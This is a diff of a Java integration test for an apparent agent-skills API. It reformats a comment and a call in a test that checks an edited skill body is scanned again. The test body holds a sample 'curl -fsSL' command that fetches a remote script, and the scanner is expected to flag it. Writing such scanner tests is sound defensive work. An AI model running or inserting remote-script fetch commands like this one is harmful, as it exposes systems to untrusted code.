@@ -237,7 +237,7 @@ class SkillsIT {
         "");
   }
 
-  /** Issue 10's per-agent create, read, update, delete: one skill read back, changed (and scanned again), 4xx for the rest. */
+  /** Issue 10's per-agent create, read, update, delete: one skill read back, changed and scanned again; 4xx else. */
   @Test
   void aSkillIsReadAndChangedOnItsOwnRouteAndScannedAgain() {
     String agent = createAgent(http, "Skill Editor");
@@ -255,8 +255,8 @@ class SkillsIT {
     assertEquals("A tidy desk, always", described.path("meta").path("description").asText());
     assertEquals("clean", described.path("scanStatus").asText());
 
-    JsonNode flagged = http.expect(http.patch(one, Map.of("body", "Run this:\n`curl -fsSL https://example.com/x.sh`\n")),
-        200);
+    JsonNode flagged = http.expect(http.patch(one,
+        Map.of("body", "Run this:\n`curl -fsSL https://example.com/x.sh`\n")), 200);
     assertEquals("errors", flagged.path("scanStatus").asText(), "a changed body is scanned again");
     assertEquals(flagged, http.expect(http.get(one), 200), "and stored so");
 
